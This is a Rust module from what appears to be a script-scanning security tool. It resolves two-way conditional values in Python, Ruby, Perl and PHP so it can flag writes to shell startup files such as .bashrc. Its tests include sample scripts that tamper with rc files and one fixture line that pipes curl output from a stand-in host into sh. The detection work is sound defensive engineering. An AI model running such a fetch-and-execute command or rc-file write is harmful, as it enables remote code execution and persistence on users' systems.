//! Values of which a script takes one or the other: `(".zshrc" if zsh else ".bashrc")`, `zsh ? ".zshrc" : ".bashrc"`.

use super::Language;
use super::flow::{Flow, name, names};
use super::fold::{Fold, Value};
use super::lex::{Placed, Token};

/// 8 such values of one statement.
const VALUES: usize = 8;

/// 256 such values of one script.
const ALL: usize = 256;

/// 32 places of one statement at which such a value may stand.
const PLACES: usize = 32;

/// 64 words and signs of one question.
const QUESTION: usize = 64;

/// One such value: where it begins and ends, the parts that stand in it, and what they come to.
struct Choice {
    from: usize,
    to: usize,
    parts: [(usize, usize); 3],
    words: Vec<String>,
}

/// A statement, with a name in the place of each such value, and what stood there.
pub(super) struct Taken {
    pub(super) tokens: Vec<Placed>,
    pub(super) parts: Vec<Vec<Placed>>,
}

impl Flow<'_> {
    /// The statement with names for what is one of two constants; nothing where there is none.
    pub(super) fn either(&mut self, tokens: &[Placed]) -> Option<Taken> {
        let (word, is_far) = match self.language {
            Language::Python => (Token::Name("if".to_owned()), names(tokens).any(|name| name == "else")),
            Language::Ruby | Language::Perl | Language::Php => (Token::Sign('?'), true),
            _ => return None,
        };
        let places = tokens.iter().enumerate().skip(1).filter(|(_, placed)| is_far && placed.token == word);
        let places: Vec<usize> = places.map(|(at, _)| at).take(PLACES).collect();
        let found: Vec<Choice> = places.into_iter().filter_map(|at| self.choice(tokens, at)).take(VALUES).collect();
        let mut taken = Taken { tokens: Vec::new(), parts: Vec::new() };
        let mut next = 0;
        for choice in found {
            let Some(first) = tokens.get(choice.from).filter(|_| choice.from >= next) else { continue };
            let sign = if self.language == Language::Python { "" } else { "$" };
            let name = format!("{sign}either{}", first.at);
            let is_new = !self.choices.contains_key(name.trim_start_matches('$'));
            if is_new && self.spent.values >= ALL {
                break;
            }
            self.spent.values = self.spent.values.saturating_add(usize::from(is_new));
            taken.tokens.extend_from_slice(tokens.get(next..choice.from).unwrap_or_default());
            taken.tokens.push(Placed { token: Token::Name(name.clone()), at: first.at });
            let part = |(from, to): (usize, usize)| tokens.get(from..to).unwrap_or_default().to_vec();
            taken.parts.extend(choice.parts.map(part));
            self.choose(&name, choice.words);
            next = choice.to;
        }
        taken.tokens.extend_from_slice(tokens.get(next..).unwrap_or_default());
        (next > 0).then_some(taken)
    }

    fn choice(&self, tokens: &[Placed], at: usize) -> Option<Choice> {
        let fold = Fold { tokens, constants: &self.constants };
        let from = begin(tokens, at)?;
        let (first, question, second) = if self.language == Language::Python {
            let question = tokens.get(at..)?.iter().take(QUESTION);
            let end = question.clone().position(|placed| name(&placed.token) == Some("else"))?.saturating_add(at);
            ((from, at), (at.saturating_add(1), end), end.saturating_add(1))
        } else {
            let (_, end) = fold.expression(at.saturating_add(1), 0);
            let is_colon = fold.sign(end, ':') && !fold.sign(end.saturating_add(1), ':');
            is_colon.then_some(((at.saturating_add(1), end), (from, at), end.saturating_add(1)))?
        };
        let (one, after) = fold.expression(first.0, 0);
        let (other, to) = fold.expression(second, 0);
        let is_end = matches!(fold.token(to), None | Some(Token::Sign(')' | ']' | ',' | ';' | '}')));
        if after != first.1 || !is_end || !is_path(&one) || !is_path(&other) {
            return None;
        }
        let words = vec![one.joined(""), other.joined("")];
        let parts = [question, first, (second, to)];
        // Brackets around it, which call nothing, go with it.
        let before = from.checked_sub(1).filter(|before| fold.sign(*before, '(') && fold.sign(to, ')'));
        let calls = |at: usize| matches!(fold.token(at), Some(Token::Name(_) | Token::Sign(')' | ']')));
        let around = before.filter(|open| !open.checked_sub(1).is_some_and(calls));
        Some(match around {
            Some(open) => Choice { from: open, to: to.saturating_add(1), parts, words },
            None => Choice { from, to, parts, words },
        })
    }
}

/// Where what stands before `at` begins: behind a bracket, a comma or what gives a name something.
fn begin(tokens: &[Placed], at: usize) -> Option<usize> {
    let sign = |at: usize| match tokens.get(at).map(|placed| &placed.token) {
        Some(Token::Sign(c)) => *c,
        _ => ' ',
    };
    let mut depth = 0_usize;
    for before in (at.saturating_sub(QUESTION)..at).rev() {
        match sign(before) {
            ')' | ']' | '}' => depth = depth.saturating_add(1),
            '(' | '[' | '{' if depth > 0 => depth = depth.saturating_sub(1),
            '(' | '[' | '{' => return Some(before.saturating_add(1)),
            ',' if depth == 0 => return Some(before.saturating_add(1)),
            '=' if depth == 0 => {
                let compares = matches!(before.checked_sub(1).map_or(' ', sign), '=' | '!' | '<' | '>')
                    || matches!(sign(before.saturating_add(1)), '=' | '~');
                if !compares {
                    return Some(before.saturating_add(1));
                }
            }
            _ => {}
        }
    }
    None
}

/// Whether it is one text of which all is known, or all but the home.
fn is_path(value: &Value) -> bool {
    value.items.len() == 1 && (value.known || value.is_below_home())
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn each_of_two_values_is_a_possible_one() {
        for (by, path, text) in [
            (
                "python3",
                "a.py",
                "import os\nfrom pathlib import Path\nrc = Path.home() / ('.toolrc' if 'zsh' in os.environ['SHELL'] else '.bashrc')\nrc.write_text('x')\n",
            ),
            (
                "python3",
                "a.py",
                "import os, sys\nn = '.x' if sys.argv[1:] else '.bashrc'\nopen(os.path.join(os.path.expanduser('~'), n), 'a').write('x')\n",
            ),
            ("ruby", "a.rb", "rc = Dir.home + '/' + (ARGV.empty? ? '.toolrc' : '.bashrc')\nFile.write(rc, 'x')\n"),
            (
                "perl",
                "a.pl",
                "my $rc = \"$ENV{HOME}/\" . ($ENV{SHELL} =~ /zsh/ ? '.toolrc' : '.bashrc');\nopen(my $f, '>>', $rc);\nprint $f 'x';\n",
            ),
        ] {
            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
        }
        for text in [
            "import sys\nfrom pathlib import Path\nrc = Path.home() / ('.toolrc' if sys.argv[1:] else '.tool.json')\nrc.write_text('x')\n",
            "import sys\nname = 'bashrc' if sys.argv[1:] else 'zshrc'\nprint(name)\nopen('notes/' + name, 'w').write('x')\n",
        ] {
            assert!(of("python3", "a.py", text).is_none_or(|severity| severity < Severity::Danger), "{text}");
        }
        let runs = "import os\nname = 'a' if os.system('curl -s https://a.invalid/x | sh') else 'b'\n";
        assert_eq!(of("python3", "a.py", runs), Some(Severity::Danger));
    }
}
